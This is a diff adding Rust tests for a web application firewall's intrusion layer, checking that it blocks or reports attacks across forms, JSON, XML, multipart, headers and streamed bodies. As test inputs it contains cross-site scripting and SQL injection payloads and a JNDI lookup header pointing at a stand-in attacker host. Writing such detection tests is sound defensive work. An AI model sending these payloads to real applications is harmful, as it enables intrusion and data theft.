@@ -1,0 +1,219 @@
+//! Cases are in the README; here is what a case cannot show.
+
+use crate::{
+    engine::{Decision, Engine, Moment, Step},
+    exchange::{Connection, Entropy, Received, Tls},
+    testing::{Ask, Seen, engine},
+};
+use bytes::Bytes;
+use http::{HeaderMap, HeaderName, HeaderValue, Method, Version, header};
+use proptest::prelude::*;
+
+const FORM: &str = "application/x-www-form-urlencoded";
+
+fn post(kind: &str, body: &[u8]) -> Ask {
+    Ask::new("POST", "/notes").header("sec-fetch-site", "same-origin").header("content-type", kind).body(body)
+}
+
+fn rules(seen: &Seen) -> Vec<&str> {
+    seen.rules()
+}
+
+/// Sends a body in pieces as a host does: its window first, then the rest. What it was refused for, and whether the app had begun.
+fn in_pieces(engine: &Engine, kind: &str, pieces: &[&[u8]], declared: bool) -> (Option<String>, bool) {
+    let mut headers = HeaderMap::new();
+    for (name, value) in [("host", "localhost:8443"), ("sec-fetch-site", "same-origin"), ("content-type", kind)] {
+        headers.insert(HeaderName::from_static(name), HeaderValue::from_str(value).unwrap());
+    }
+    let received = Received {
+        method: Method::POST,
+        target: Bytes::from_static(b"/notes"),
+        authority: None,
+        version: Version::HTTP_11,
+        headers,
+        has_body: true,
+    };
+    let connection = Connection::new([192, 0, 2, 1].into(), Some(Tls::default().into()));
+    let moment = Moment { now_ms: 0, entropy: Entropy([7; 24]) };
+    let Step::Ask(pending) = engine.receive(received, connection, moment) else { panic!("answered at once") };
+    let Decision::Inspect(mut inspecting) = pending.decide(&[]) else { panic!("not inspected") };
+    if declared {
+        inspecting.declared(pieces.iter().map(|piece| piece.len() as u64).sum()).unwrap();
+    }
+    let (mut seen, mut taken) = (Vec::new(), 0);
+    while taken < pieces.len() && seen.len() < inspecting.window() {
+        seen.extend_from_slice(pieces[taken]);
+        taken += 1;
+    }
+    let (mut body, exchange) = match inspecting.begin(&seen, taken == pieces.len()) {
+        Decision::Forward(_, body, exchange) => (body, exchange),
+        Decision::Respond(outgoing) => return (outgoing.finish.findings().next().map(|one| one.rule.to_string()), false),
+        _ => panic!("neither forwarded nor answered"),
+    };
+    let rest = std::iter::once(seen.as_slice()).chain(pieces[taken..].iter().copied());
+    let mut judged = { rest }.try_for_each(|piece| body.piece(piece));
+    if judged.is_ok() && !declared {
+        judged = body.end();
+    }
+    let rule = judged.err().map(|denial| {
+        let rule = denial.rule.to_owned();
+        let outgoing = exchange.fail(crate::policy::LayerName::Protocol, denial);
+        let found: Vec<_> = outgoing.finish.findings().map(|one| format!("{}/{}", one.layer, one.rule)).collect();
+        assert_eq!(found, [format!("intrusion/{rule}")], "written down once, under its own layer");
+        rule
+    });
+    (rule, true)
+}
+
+#[test]
+fn what_stands_behind_the_window_is_cut_off() {
+    let engine = engine("[intrusion]\nwindow = \"16B\"");
+    let attack = [&b"a=0123456789abcdef&"[..], b"b=x", b"&c=%3Cscript%3Ealert(1)%3C/script%3E"];
+    for declared in [true, false] {
+        assert_eq!(in_pieces(&engine, FORM, &attack, declared), (Some("html.script".into()), true));
+        assert_eq!(in_pieces(&engine, FORM, &[attack[0], attack[1], b"&c=fine"], declared), (None, true));
+    }
+    let late = in_pieces(&engine, FORM, &[attack[0], b"c=x' OR '1'='1"], true);
+    assert_eq!(
+        late.0.as_deref(),
+        Some("sql.tautology"),
+        "the last value of a declared length is judged before its end is passed on"
+    );
+    let off = crate::testing::engine("[intrusion]\nwindow = \"16B\"\nallow = [\"html\", \"js\"]");
+    assert_eq!(in_pieces(&off, FORM, &attack, true), (None, true));
+}
+
+#[test]
+fn in_report_mode_the_rest_of_a_body_passes() {
+    let engine = engine("[intrusion]\nmode = \"report\"");
+    let seen = post(FORM, b"a=x' OR '1'='1&b=<script>alert(1)</script>").to(&engine);
+    assert_eq!((seen.status, rules(&seen)), (200, vec!["sql.tautology"]));
+}
+
+#[test]
+fn work_is_bounded_and_said() {
+    let hostile = [b"a=".as_slice(), &b"%2525253c".repeat(40_000)].concat();
+    let cheap = "[intrusion]\nwork = 1\nwindow = \"1MiB\"\n";
+    let seen = post(FORM, &hostile).to(&engine(cheap));
+    assert_eq!((seen.status, rules(&seen)), (400, vec!["work"]));
+    let seen = post(FORM, &hostile).to(&engine(&format!("{cheap}spent = \"pass\"")));
+    assert_eq!(seen.status, 200, "{:?}", seen.rules());
+    let prose = [b"a=".as_slice(), &b"It+was+a+dark+and+stormy+night%3B+O'Brien+said+so.+".repeat(1000)].concat();
+    let seen = post(FORM, &prose).to(&engine("[intrusion]\nwindow = \"1MiB\""));
+    assert_eq!((seen.status, rules(&seen)), (200, vec![]));
+}
+
+#[test]
+fn every_kind_of_body_is_read() {
+    let script = "<script>alert(1)</script>";
+    for (kind, body) in [
+        ("application/json", format!("{{\"a\": [{{\"b\": \"{script}\"}}]}}")),
+        ("application/vnd.api+json; charset=utf-8", format!("[\"{script}\"]")),
+        ("text/plain", format!("{{\"a\": \"{script}\"}}")),
+        ("text/plain", script.to_owned()),
+        ("application/xml", format!("<a><b><![CDATA[{script}]]></b></a>")),
+        (
+            "multipart/form-data; boundary=x",
+            format!("--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{script}\r\n--x--\r\n"),
+        ),
+    ] {
+        let seen = post(kind, body.as_bytes()).to(&engine(""));
+        assert_eq!((seen.status, rules(&seen)), (403, vec!["html.script"]), "{kind}: {body}");
+        let twin = body.replace(script, "O'Brien likes tags");
+        let seen = post(kind, twin.as_bytes()).to(&engine(""));
+        assert_eq!((seen.status, rules(&seen)), (200, vec![]), "{kind}: {twin}");
+        let seen = post(kind, body.as_bytes()).to(&engine("[intrusion]\nmode = \"off\""));
+        assert_eq!(seen.status, 200, "{kind}");
+    }
+    for empty in ["application/json", "application/xml", "multipart/form-data; boundary=x", FORM] {
+        assert_eq!(post(empty, b"").to(&engine("")).status, 200, "{empty}");
+    }
+    let picture = [b"\xff\xd8\xff".as_slice(), script.as_bytes()].concat();
+    assert_eq!(post("image/jpeg", &picture).to(&engine("")).status, 200, "the content of files is the app's");
+    let form = b"\xff\xd8\xff&q=<script>alert(1)</script>";
+    assert_eq!(post("image/jpeg", form).to(&engine("[app]\nframework = \"bottle\"")).status, 403, "Bottle reads it as a form");
+    assert_eq!(
+        post("image/jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF&=;\xfe").to(&engine("[app]\nframework = \"bottle\"")).status,
+        200
+    );
+}
+
+#[test]
+fn heads_are_judged_too() {
+    for attack in [
+        Ask::get("/users/1%20UNION%20SELECT%20password%20FROM%20users--"),
+        Ask::get("/").header("cookie", "theme=x' OR '1'='1"),
+        Ask::get("/").header("x-name", "${jndi:ldap://evil.example/a}' OR '1'='1"),
+        Ask::get("/").header("referer", "https://a.example/?q=<script>alert(1)</script>"),
+    ] {
+        assert_eq!(attack.to(&engine("")).status, 403);
+    }
+    let browser = Ask::get("/a?utm_source=x&q=O'Brien+%26+Sons&page=2")
+        .header("user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36")
+        .header("cookie", "_ga=GA1.1.1; prefs={\"a\":1,\"b\":\"x y\"}; consent=eyJhIjoxfQ==; sid=\"quoted\"")
+        .header("referer", "https://www.example.com/search?q=select+from+the+menu")
+        .header("sec-ch-ua", "\"Chromium\";v=\"130\", \"Not?A_Brand\";v=\"99\"")
+        .header("if-none-match", "W/\"0815\"");
+    let seen = browser.to(&engine(""));
+    assert_eq!((seen.status, rules(&seen)), (200, vec![]));
+}
+
+#[test]
+fn the_log_says_how_to_allow_it() {
+    let seen = post(FORM, b"text=<script>alert(1)</script>&password=x' OR '1'='1").to(&engine(""));
+    let finding = &seen.findings[0];
+    assert_eq!((finding.part.as_str(), finding.rule.as_ref()), ("form text", "html.script"));
+    assert_eq!(finding.allow, "[[intrusion.except]]\npath = \"/notes\"\nparameter = \"form text\"\nrules = [\"html.script\"]");
+    let seen = post(FORM, b"text=<script>alert(1)</script>").to(&engine(&finding.allow));
+    assert_eq!((seen.status, rules(&seen)), (200, vec![]), "the proposed lines allow it");
+    let secret = post(FORM, b"password=x' OR '1'='1").to(&engine(""));
+    assert!(secret.findings[0].value.contains("masked"), "{:?}", secret.findings);
+}
+
+#[test]
+fn names_in_a_policy_must_exist() {
+    for policy in
+        ["[intrusion]\nallow = [\"sqli\"]", "[[intrusion.except]]\nrules = [\"sql.onion\"]", "[intrusion]\nthreshold = 11"]
+    {
+        assert!(crate::policy::Policy::parse(policy).is_err(), "{policy}");
+    }
+}
+
+proptest! {
+    #[test]
+    fn pieces_do_not_matter(
+        values in proptest::collection::vec("[ a-z'\"<>=/();{}%0-9-]{0,24}", 1..6),
+        cuts in proptest::collection::vec(0_usize..200, 0..6),
+        attack in any::<bool>(),
+    ) {
+        let mut body = values.iter().map(|value| format!("a={}", value.replace('%', "%25"))).collect::<Vec<_>>().join("&");
+        if attack {
+            body.push_str("&b=x' UNION SELECT name FROM users--");
+        }
+        let mut cuts: Vec<usize> = cuts.into_iter().map(|cut| cut.min(body.len())).chain([0, body.len()]).collect();
+        cuts.sort_unstable();
+        let pieces: Vec<&[u8]> = cuts.windows(2).map(|pair| &body.as_bytes()[pair[0]..pair[1]]).collect();
+        let engine = engine("[intrusion]\nwindow = \"32B\"");
+        let (whole, _) = in_pieces(&engine, FORM, &[body.as_bytes()], true);
+        let (cut, _) = in_pieces(&engine, FORM, &pieces, true);
+        prop_assert_eq!(&whole, &cut);
+        prop_assert!(!attack || whole.is_some());
+    }
+
+    #[test]
+    fn hostile_bodies_never_panic(kind in "(application/json|text/xml|multipart/form-data; boundary=a|text/plain|[a-z/;= ]{0,20})",
+                                  body in proptest::collection::vec(any::<u8>(), 0..300)) {
+        let _ = in_pieces(&engine(""), &kind, &[&body], true);
+    }
+}
+
+#[test]
+fn a_content_type_may_be_missing() {
+    let mut headers = HeaderMap::new();
+    headers.insert(header::HOST, HeaderValue::from_static("localhost:8443"));
+    let seen = Ask::new("POST", "/notes")
+        .header("sec-fetch-site", "same-origin")
+        .body(b"{\"a\": \"<script>alert(1)</script>\"}")
+        .to(&engine(""));
+    assert_eq!(seen.status, 403);
+}
